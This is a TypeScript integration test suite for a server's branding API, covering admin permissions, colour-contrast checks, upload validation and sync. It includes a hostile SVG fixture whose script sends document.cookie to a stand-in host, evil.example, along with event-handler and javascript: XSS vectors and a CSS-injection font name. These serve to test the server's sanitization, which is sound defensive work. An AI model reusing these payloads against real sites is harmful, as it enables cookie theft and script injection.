/**
 * The company's branding on the real server: anyone may read it (the sign-in screen shows it),
 * only the admin changes it, colours that fail WCAG AA are refused with a shade that passes,
 * uploads are checked by their content and an SVG logo comes back sanitized, and every change
 * reaches signed-in clients through sync exactly once.
 */
import {
  BrandingSaved,
  Branding,
  ErrorBody,
  type BrandingSettings,
  brandPalette,
  brandingEntityId,
  defaultBranding,
  maxBrandFontBytes,
  maxBrandImageBytes,
} from '@flurfunk/protocol';
import { beforeAll, expect, it } from 'vitest';
import { describeEachStorage, type TestServer } from '../support/server-backends.js';
import { type ApiClient, apiClient } from '../support/server-client.js';
import { type User, signInAs, syncAll } from '../support/chat-support.js';
import { makePng, sha256 } from '../support/file-support.js';

const settings: BrandingSettings = {
  appName: 'Müller Werke',
  primaryColor: '#0a5bb0',
  accentColor: '#b00020',
  fontFamily: 'Source Sans 3',
  fontFallback: ['Segoe UI'],
};

const hostileSvg = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 40" onload="alert(1)">
  <script>fetch('https://evil.example/?' + document.cookie)</script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#0a5bb0"/></linearGradient>
    <style>@import url(https://evil.example/a.css); .mark { fill: url(#g) }</style></defs>
  <a xlink:href="javascript:alert(2)"><path class="mark" d="M4 4h32v32H4z" onclick="alert(3)"/></a>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <text x="44" y="26" style="fill: url(https://evil.example/p.svg#x)">Müller</text>
</svg>`;

/** The smallest file the server takes as WOFF2: its 48-byte header, with a length that is the file's. */
function makeWoff2(size = 96): Buffer {
  const bytes = Buffer.alloc(size);
  bytes.write('wOF2', 0, 'latin1');
  bytes.writeUInt32BE(0x00010000, 4); // TrueType outlines
  bytes.writeUInt32BE(size, 8);
  bytes.writeUInt16BE(1, 12); // one table
  return bytes;
}

describeEachStorage('branding', (backend) => {
  let server: TestServer;
  let api: ApiClient;
  let admin: User;
  let lena: User;
  /** Lena's sync position: what she has pulled so far. */
  let cursor = '0';

  const publicBranding = async () => {
    const response = await api.get('/api/v1/branding');
    expect(response.status).toBe(200);
    return Branding.parse(response.body);
  };
  const putSettings = (body: unknown, user = admin) =>
    api.put('/api/v1/admin/branding', { token: user.token, json: body });
  const upload = (slot: string, bytes: Buffer | string, contentType: string, user = admin) =>
    api.put(`/api/v1/admin/branding/assets/${slot}`, { token: user.token, rawBody: bytes, contentType });
  const remove = (slot: string, user = admin) =>
    api.delete(`/api/v1/admin/branding/assets/${slot}`, { token: user.token });
  const savedFrom = (response: { status: number; body: unknown }) => {
    expect(response.status, JSON.stringify(response.body)).toBe(200);
    return BrandingSaved.parse(response.body);
  };
  const errorOf = (response: { body: unknown }) => ErrorBody.parse(response.body).error;
  const asset = async (id: string) => {
    const response = await fetch(`${server.url}/api/v1/branding/assets/${id}`);
    return {
      status: response.status,
      headers: response.headers,
      bytes: Buffer.from(await response.arrayBuffer()),
    };
  };
  /** The branding changes Lena's client pulls since its last pull. */
  const pulledBranding = async () => {
    const synced = await syncAll(api, lena, { after: cursor });
    cursor = synced.cursor;
    return synced.changes.flatMap((change) => (change.type === 'branding.upsert' ? [change] : []));
  };
  const expectPulledRevision = async (revision: number) => {
    const changes = await pulledBranding();
    expect(changes.map((change) => [change.id, change.scope, change.data.revision])).toEqual([
      [brandingEntityId, 'company', revision],
    ]);
    return changes[0]!.data;
  };

  beforeAll(async () => {
    server = await backend.start({ demo: true });
    api = apiClient(server.url);
    [admin, lena] = (await Promise.all(['admin', 'lena.weber'].map((name) => signInAs(api, name)))) as [
      User,
      User,
    ];
    await pulledBranding();
  });

  it('shows the built-in branding to anyone, without a token', async () => {
    expect(await publicBranding()).toEqual(defaultBranding);
  });

  it('lets only the admin change it', async () => {
    const png = makePng(8, 8);
    for (const response of [
      await putSettings(settings, lena),
      await upload('logo', png, 'image/png', lena),
      await remove('logo', lena),
    ]) {
      expect(response.status).toBe(403);
      expect(errorOf(response).code).toBe('forbidden');
    }
    const anonymous = await api.put('/api/v1/admin/branding', { json: settings });
    expect(anonymous.status).toBe(401);
    expect((await publicBranding()).revision).toBe(0);
    expect(await pulledBranding()).toEqual([]);
  });

  it('refuses colours too light to read, naming the field and a darker shade that passes', async () => {
    const response = await putSettings({ ...settings, primaryColor: '#FFCC00', accentColor: '#f0f0f0' });
    expect(response.status).toBe(400);
    const error = errorOf(response);
    expect(error.code).toBe('bad_request');
    const [primary, accent] = brandPalette({ primaryColor: '#ffcc00', accentColor: '#f0f0f0' }).problems;
    expect(error.issues?.map((issue) => issue.path)).toEqual(['primaryColor', 'accentColor']);
    expect(primary?.suggestion).toMatch(/^#[0-9a-f]{6}$/);
    expect(error.issues?.[0]?.message).toBe(
      `Primary colour #ffcc00 has a contrast of 1.3:1 against white text and light backgrounds; WCAG AA needs 4.5:1. A darker shade such as ${primary?.suggestion} passes.`,
    );
    expect(error.issues?.[1]?.message).toBe(
      `Accent colour #f0f0f0 has a contrast of 1.1:1 against white surfaces; WCAG AA needs 3:1 for controls and graphics. A darker shade such as ${accent?.suggestion} passes.`,
    );
    // The suggestions are taken as they are.
    savedFrom(
      await putSettings({ ...settings, primaryColor: primary?.suggestion, accentColor: accent?.suggestion }),
    );
    await expectPulledRevision(1);
  });

  it('saves name, colours and fonts, says what dark mode shows lighter, and a repeat changes nothing', async () => {
    const saved = savedFrom(await putSettings({ ...settings, primaryColor: '#0A5BB0' }));
    expect(saved.branding).toMatchObject({ ...settings, revision: 2, logo: null, fonts: [] });
    expect(saved.adjustments).toEqual(brandPalette(settings).adjustments);
    expect(saved.adjustments.map((adjustment) => adjustment.field)).toContain('primaryColor');
    expect(await publicBranding()).toEqual(saved.branding);
    expect(await expectPulledRevision(2)).toEqual(saved.branding);

    const again = savedFrom(await putSettings(settings));
    expect(again.branding).toEqual(saved.branding);
    expect(await pulledBranding()).toEqual([]);
  });

  it('refuses settings that do not fit the schema', async () => {
    const response = await putSettings({ ...settings, fontFamily: 'x"; } body { display: none' });
    expect(response.status).toBe(400);
    expect(errorOf(response).issues?.map((issue) => issue.path)).toEqual(['fontFamily']);
  });

  let svgLogoId: string;

  it('serves an uploaded SVG logo sanitized, with headers that keep it inert', async () => {
    const saved = savedFrom(await upload('logo', hostileSvg, 'image/svg+xml'));
    expect(saved.branding).toMatchObject({ revision: 3, logo: { mediaType: 'image/svg+xml' } });
    svgLogoId = saved.branding.logo!.id;
    const served = await asset(svgLogoId);
    expect(served.status).toBe(200);
    expect(sha256(served.bytes)).toBe(svgLogoId);
    expect(served.bytes.length).toBe(saved.branding.logo?.size);
    const svg = served.bytes.toString('utf8');
    expect(svg).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    expect(svg).toContain('<path class="mark" d="M4 4h32v32H4z"/>');
    expect(svg).toContain('fill: url(#g)');
    expect(svg).not.toMatch(/script|onload|onclick|alert|evil\.example|@import|javascript/i);
    expect(Object.fromEntries(served.headers)).toMatchObject({
      'content-type': 'image/svg+xml',
      'cache-control': 'public, max-age=31536000, immutable',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; style-src 'unsafe-inline'; sandbox",
    });
    expect((await expectPulledRevision(3)).logo?.id).toBe(svgLogoId);
  });

  let pngId: string;

  it('replaces the logo with a PNG and deletes the SVG that nothing shows any more', async () => {
    const png = makePng(120, 40);
    pngId = sha256(png);
    const saved = savedFrom(await upload('logo', png, 'image/png'));
    expect(saved.branding.logo).toEqual({ id: pngId, mediaType: 'image/png', size: png.length });
    const served = await asset(pngId);
    expect(served.bytes.equals(png)).toBe(true);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect((await asset(svgLogoId)).status).toBe(404);
    await expectPulledRevision(4);
    // The same file again is no change.
    expect(savedFrom(await upload('logo', png, 'image/png')).branding.revision).toBe(4);
    expect(await pulledBranding()).toEqual([]);
  });

  it('refuses files that are not what they are sent as (415) and files too large (413)', async () => {
    const png = makePng(16, 16);
    const refusals = [
      [await upload('logo', png, 'image/svg+xml'), 415],
      [await upload('logo', 'just some text, no picture', 'image/png'), 415],
      [await upload('logo', png, 'image/jpeg'), 415],
      [await upload('loginBackground', hostileSvg, 'image/svg+xml'), 415],
      [await upload('logo', '<html><body>not a logo</body></html>', 'image/svg+xml'), 415],
      [await upload('logo', png, 'text/plain'), 415],
      [await upload('logo', Buffer.concat([png, Buffer.alloc(maxBrandImageBytes)]), 'image/png'), 413],
      [await upload('font-400-normal', makeWoff2(maxBrandFontBytes + 4), 'font/woff2'), 413],
    ] as const;
    for (const [response, status] of refusals) {
      expect(response.status, JSON.stringify(response.body)).toBe(status);
    }
    expect(errorOf(refusals[0][0])).toMatchObject({ code: 'unsupported_media_type' });
    expect(errorOf(refusals[1][0])).toMatchObject({ code: 'unsupported_media_type' });
    expect(errorOf(refusals[6][0])).toMatchObject({ code: 'payload_too_large' });
    expect(errorOf(refusals[7][0])).toMatchObject({ code: 'payload_too_large' });
    expect((await publicBranding()).revision).toBe(4);
    expect(await pulledBranding()).toEqual([]);
  });

  it('takes WOFF2 font faces by their signature and refuses anything else sent as one', async () => {
    const woff2 = makeWoff2();
    const saved = savedFrom(await upload('font-700-italic', woff2, 'font/woff2'));
    expect(saved.branding.fonts).toEqual([
      {
        weight: 700,
        style: 'italic',
        asset: { id: sha256(woff2), mediaType: 'font/woff2', size: woff2.length },
      },
    ]);
    const served = await asset(sha256(woff2));
    expect(served.headers.get('content-type')).toBe('font/woff2');
    expect(served.bytes.equals(woff2)).toBe(true);
    await expectPulledRevision(5);

    const trueType = Buffer.concat([Buffer.from([0, 1, 0, 0]), Buffer.alloc(92)]);
    const wrongLength = makeWoff2();
    wrongLength.writeUInt32BE(4096, 8);
    for (const bytes of [trueType, wrongLength, Buffer.from('wOF2')]) {
      const response = await upload('font-400-normal', bytes, 'font/woff2');
      expect(response.status).toBe(415);
      expect(errorOf(response).code).toBe('unsupported_media_type');
    }
    expect((await upload('font-400-normal', makePng(8, 8), 'image/png')).status).toBe(415);
    expect((await upload('font-400-bold', woff2, 'font/woff2')).status).toBe(400);
  });

  it('removes an asset, and its bytes once no slot shows them', async () => {
    const png = makePng(120, 40);
    savedFrom(await upload('loginBackground', png, 'image/png'));
    await expectPulledRevision(6);
    // The logo and the background are the same file: removing the logo keeps it for the background.
    const withoutLogo = savedFrom(await remove('logo'));
    expect(withoutLogo.branding).toMatchObject({ revision: 7, logo: null, loginBackground: { id: pngId } });
    expect((await asset(pngId)).status).toBe(200);
    await expectPulledRevision(7);

    const withoutBackground = savedFrom(await remove('loginBackground'));
    expect(withoutBackground.branding).toMatchObject({ revision: 8, loginBackground: null });
    expect((await asset(pngId)).status).toBe(404);
    expect((await expectPulledRevision(8)).loginBackground).toBeNull();

    // Removing what is not there changes nothing.
    expect(savedFrom(await remove('logo')).branding.revision).toBe(8);
    expect(await pulledBranding()).toEqual([]);
    expect((await asset('0'.repeat(64))).status).toBe(404);
  });

  it('is described in the OpenAPI document', async () => {
    const { body } = await api.get<{ paths: Record<string, Record<string, { tags?: string[] }>> }>(
      '/api/v1/openapi.json',
    );
    expect(body.paths['/api/v1/branding']?.get?.tags).toEqual(['branding']);
    expect(body.paths['/api/v1/branding/assets/{id}']?.get?.tags).toEqual(['branding']);
    expect(body.paths['/api/v1/admin/branding']?.put?.tags).toEqual(['branding admin']);
    expect(body.paths['/api/v1/admin/branding/assets/{slot}']?.put?.tags).toEqual(['branding admin']);
    expect(body.paths['/api/v1/admin/branding/assets/{slot}']?.delete?.tags).toEqual(['branding admin']);
  });
});
